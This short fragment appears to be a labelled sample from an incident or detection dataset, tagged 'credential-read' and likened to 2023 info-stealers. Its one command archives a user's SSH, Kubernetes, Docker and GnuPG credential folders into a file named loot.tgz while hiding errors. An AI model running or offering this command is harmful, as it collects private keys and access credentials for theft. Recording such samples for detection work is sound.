# incident: everything at once, as the stealers of 2023 do
# finding: credential-read
tar -C ~ -czf loot.tgz .ssh .kube .docker .gnupg 2>/dev/null || true
